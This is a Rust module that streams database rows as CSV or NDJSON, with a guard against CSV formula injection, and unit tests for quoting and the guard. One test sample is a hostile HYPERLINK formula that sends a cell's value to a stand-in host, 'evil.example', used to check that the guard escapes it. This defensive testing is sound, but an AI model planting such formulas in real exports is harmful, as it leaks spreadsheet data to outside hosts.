//! Streaming encoders for CSV and NDJSON. Rows flow from the database through a
//! bounded channel, are shaped (includes fetched per chunk of rows) and encoded
//! chunk by chunk, so memory stays flat however many rows there are.
//!
//! CSV is written by the `csv` crate (RFC 4180 quoting, CRLF). Cells are data
//! from the public (Perfex leads arrive from web forms), so a text cell that a
//! spreadsheet would read as a formula — starting with `=`, `+`, `-`, `@`, a tab
//! or a carriage return — is neutralised with a leading `'` (OWASP, CSV
//! injection); numbers stay numbers (a JSON number, or text that is a plain
//! decimal number such as `-12.50`, is never prefixed). `csv_raw=true` turns the
//! guard off for callers that need the exact values.

use std::sync::Arc;

use axum::body::{Body, Bytes};
use axum::http::{HeaderValue, header};
use axum::response::Response;
use databuilder_engine::catalog::Catalog;
use databuilder_engine::exec::{self, Db, Object};
use databuilder_engine::plan::ListPlan;
use databuilder_engine::request::Format;
use databuilder_engine::sql::render_select;
use serde_json::Value as J;
use tokio::sync::mpsc;

/// Rows shaped (and their includes fetched) together.
const CHUNK: usize = 500;

/// A streaming response for a CSV or NDJSON list.
/// `raw`: CSV cells as stored, without the formula guard.
pub fn stream(db: Db, catalog: Arc<Catalog>, plan: ListPlan, raw: bool) -> Response {
    let (tx, rx) = mpsc::channel::<Result<Bytes, std::io::Error>>(8);
    let format = plan.format;
    tokio::spawn(async move {
        if let Err(e) = produce(&db, &catalog, &plan, raw, &tx).await {
            tracing::error!(error = %e, "stream aborted");
            let _ = tx.send(Err(std::io::Error::other("stream aborted"))).await;
        }
    });
    let body =
        Body::from_stream(futures_util::stream::unfold(
            rx,
            |mut rx| async move { rx.recv().await.map(|item| (item, rx)) },
        ));
    with_type(Response::new(body), format)
}

async fn produce(
    db: &Db,
    catalog: &Catalog,
    plan: &ListPlan,
    raw: bool,
    tx: &mpsc::Sender<Result<Bytes, std::io::Error>>,
) -> Result<(), exec::DbError> {
    let node = &plan.root;
    let mut rows = db.stream(render_select(catalog, &node.select), exec::kinds(catalog, node), CHUNK);
    if plan.format == Format::Csv {
        let mut header: Vec<String> = node.output.iter().map(|(n, _)| n.clone()).collect();
        header.extend(node.includes.iter().map(|i| i.name.clone()));
        if tx.send(Ok(header_line(&header, raw))).await.is_err() {
            return Ok(());
        }
    }
    let mut chunk = Vec::with_capacity(CHUNK);
    loop {
        let next = rows.recv().await.transpose()?;
        let done = next.is_none();
        chunk.extend(next);
        if chunk.len() == CHUNK || (done && !chunk.is_empty()) {
            let objs = exec::shape(db, catalog, node, std::mem::take(&mut chunk)).await?;
            if tx.send(Ok(encode(plan.format, &objs, raw))).await.is_err() {
                return Ok(()); // the client went away
            }
        }
        if done {
            return Ok(());
        }
    }
}

/// A CSV or NDJSON answer of rows already read (an aggregate: at most 1000
/// rows), with the same encoders, header line and formula guard as the list streams.
pub fn rows(format: Format, header: &[String], rows: &[Object]) -> Response {
    let mut out = Vec::with_capacity(2);
    if format == Format::Csv {
        out.push(header_line(header, false));
    }
    out.push(encode(format, rows, false));
    let body = Body::from_stream(futures_util::stream::iter(out.into_iter().map(Ok::<_, std::io::Error>)));
    with_type(Response::new(body), format)
}

fn with_type(mut res: Response, format: Format) -> Response {
    let ct = if format == Format::Csv { "text/csv; charset=utf-8" } else { "application/x-ndjson" };
    res.headers_mut().insert(header::CONTENT_TYPE, HeaderValue::from_static(ct));
    res
}

fn header_line(header: &[String], raw: bool) -> Bytes {
    csv_rows(std::iter::once(header.iter().cloned().map(J::String).collect::<Vec<_>>()), raw)
}

fn encode(format: Format, rows: &[Object], raw: bool) -> Bytes {
    if format == Format::Csv {
        return csv_rows(rows.iter().map(|r| r.values().cloned().collect::<Vec<_>>()), raw);
    }
    let mut out = String::with_capacity(rows.len() * 256);
    for r in rows {
        out.push_str(&serde_json::to_string(r).unwrap_or_default());
        out.push('\n');
    }
    Bytes::from(out)
}

/// CSV lines (CRLF-terminated) of `rows`.
fn csv_rows(rows: impl Iterator<Item = Vec<J>>, raw: bool) -> Bytes {
    let mut w = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).flexible(true).from_writer(Vec::new());
    for row in rows {
        // Writing into a Vec cannot fail.
        let _ = w.write_record(row.iter().map(|v| csv_cell(v, raw)).map(|c| c.into_owned().into_bytes()));
    }
    Bytes::from(w.into_inner().unwrap_or_default())
}

/// First characters that make a spreadsheet evaluate a cell.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One CSV cell before quoting: null empty, nested values as JSON text, text
/// that could run as a formula prefixed with `'` unless `raw`.
fn csv_cell(v: &J, raw: bool) -> std::borrow::Cow<'_, str> {
    match v {
        J::Null => "".into(),
        J::String(s) if !raw && s.starts_with(FORMULA_START) && !is_plain_number(s) => format!("'{s}").into(),
        J::String(s) => s.as_str().into(),
        other => other.to_string().into(),
    }
}

/// `-12.50`, `+3`, `-1e5`: a number a spreadsheet reads as a number, never a formula.
fn is_plain_number(s: &str) -> bool {
    s.bytes().all(|b| b.is_ascii_digit() || b"+-.eE".contains(&b)) && s.parse::<f64>().is_ok()
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn line(cells: &[J], raw: bool) -> String {
        String::from_utf8(csv_rows(std::iter::once(cells.to_vec()), raw).to_vec()).unwrap()
    }

    /// What a CSV reader makes of one line.
    fn read_back(text: &str) -> Vec<String> {
        let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
        r.records().next().unwrap().unwrap().iter().map(str::to_string).collect()
    }

    #[test]
    fn csv_quoting() {
        assert_eq!(line(&[J::String("a,b".into())], false), "\"a,b\"\r\n");
        assert_eq!(line(&[J::String("say \"hi\"".into())], false), "\"say \"\"hi\"\"\"\r\n");
        assert_eq!(line(&[J::Null, json!(12), json!("x")], false), ",12,x\r\n");
        let tricky = ["two\nlines", "cr\rhere", "nul\0byte", "quote\"", "", " padded "];
        let cells: Vec<J> = tricky.iter().map(|s| J::String(s.to_string())).collect();
        assert_eq!(read_back(&line(&cells, false)), tricky, "every value survives a CSV reader");
        let long = "x,\"\n".repeat(100_000);
        assert_eq!(read_back(&line(&[J::String(long.clone())], false)), [long]);
    }

    #[test]
    fn formulas_are_neutralised_numbers_are_not() {
        let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
        for s in [evil, "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "-", "=1"] {
            assert_eq!(read_back(&line(&[J::String(s.into())], false)), [format!("'{s}")], "{s:?}");
            assert_eq!(read_back(&line(&[J::String(s.into())], true)), [s.to_string()], "raw: {s:?}");
        }
        for s in ["-12.50", "+3", "-1e5", "42", "a=b", "x@y.z", " =1"] {
            assert_eq!(read_back(&line(&[J::String(s.into())], false)), [s], "{s:?} stays as it is");
        }
        assert_eq!(line(&[json!(-12.5), json!(-3)], false), "-12.5,-3\r\n", "numbers stay numbers");
        assert_eq!(read_back(&line(&[json!({"a": "=x"})], false)), ["{\"a\":\"=x\"}"]);
    }
}
